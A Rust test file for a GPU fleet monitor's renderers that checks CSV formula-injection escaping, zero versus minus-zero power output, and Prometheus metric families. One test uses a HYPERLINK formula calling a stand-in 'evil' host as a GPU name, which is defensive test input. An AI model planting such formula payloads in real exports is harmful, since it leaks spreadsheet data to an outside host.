//! Issue #25 (5, 6): values as the headless renderers write them. A GPU name a spreadsheet would run as a
//! formula opens as text in CSV; an empty power sum is `0`, never `-0`, in the table, the Prometheus text
//! (what the exporter serves) and JSON. Through the real state, fed messages as a transport sends them.

use std::sync::Arc;
use std::time::{Duration, Instant};

use super::{Format, Report};
use crate::fleet::filter::Filter;
use crate::fleet::FleetState;
use crate::inventory::Inventory;
use crate::telemetry::{GpuSample, NodeSample};
use crate::transport::{Msg, NodeEvent};

fn rendered(gpus: Vec<GpuSample>, format: Format) -> String {
    let inv = Inventory::parse(
        "t.toml",
        "[[cabinet]]\nname = \"c1\"\nnodes = \"n1\"\ngpus_per_node = 2\n",
    )
    .unwrap();
    let mut state = FleetState::new(Arc::new(inv));
    let now = Instant::now();
    let mut sample = NodeSample {
        t: 1,
        gpus,
        ..Default::default()
    };
    // As every transport does after decoding a node's line.
    sample.sanitize(64);
    state.apply(Msg {
        node: 0,
        at: now,
        event: NodeEvent::Sample(sample),
    });
    let report = Report::new(
        &state,
        &Filter::parse("").unwrap(),
        now,
        now,
        Duration::from_secs(5),
    );
    report.render(format)
}

fn gpu(index: u32, name: &str, power_w: Option<f64>) -> GpuSample {
    GpuSample {
        index,
        name: Some(name.into()),
        power_w,
        ..Default::default()
    }
}

#[test]
fn a_formula_in_node_text_opens_as_text_in_csv() {
    let csv = rendered(
        vec![
            gpu(0, "=HYPERLINK(\"http://evil/\"&A1,\"x\")", Some(300.0)),
            gpu(1, "@SUM(1+1)", Some(300.0)),
        ],
        Format::Csv,
    );
    let rows: Vec<&str> = csv.lines().collect();
    assert!(
        rows[1].contains(",\"'=HYPERLINK(\"\"http://evil/\"\"&A1,\"\"x\"\")\","),
        "{}",
        rows[1]
    );
    assert!(rows[2].contains(",'@SUM(1+1),"), "{}", rows[2]);
    // No cell of any row begins with a formula character unless it is a plain number.
    for row in &rows[1..] {
        for cell in row.split(',') {
            let formula = cell.starts_with(['=', '+', '@'])
                || (cell.starts_with('-') && cell[1..].parse::<f64>().is_err());
            assert!(!formula, "{cell:?} in {row}");
        }
    }
}

#[test]
fn power_that_sums_to_nothing_is_zero_not_minus_zero() {
    // GPUs that report no power, and one that reports -0.0 (which passes the range check).
    for gpus in [
        vec![gpu(0, "H100", None), gpu(1, "H100", None)],
        vec![gpu(0, "H100", Some(-0.0)), gpu(1, "H100", None)],
    ] {
        let table = rendered(gpus.clone(), Format::Table);
        assert!(!table.contains("-0"), "{table}");
        assert!(table.contains(" 0W"), "{table}");
        assert!(table.contains(" 0.0 kW"), "{table}");
        let prom = rendered(gpus.clone(), Format::Prom);
        assert!(!prom.contains(" -0"), "{prom}");
        let json = rendered(gpus, Format::Json);
        assert!(!json.contains(": -0"), "{json}");
    }
}

#[test]
fn every_family_the_prometheus_source_reads_back_is_written() {
    let prom = rendered(
        vec![gpu(0, "NVIDIA H100 80GB HBM3", Some(300.0))],
        Format::Prom,
    );
    for name in crate::telemetry::metric_names::READ_BACK {
        assert!(
            prom.contains(&format!("# TYPE {name} ")),
            "{name} is not written:\n{prom}"
        );
    }
}
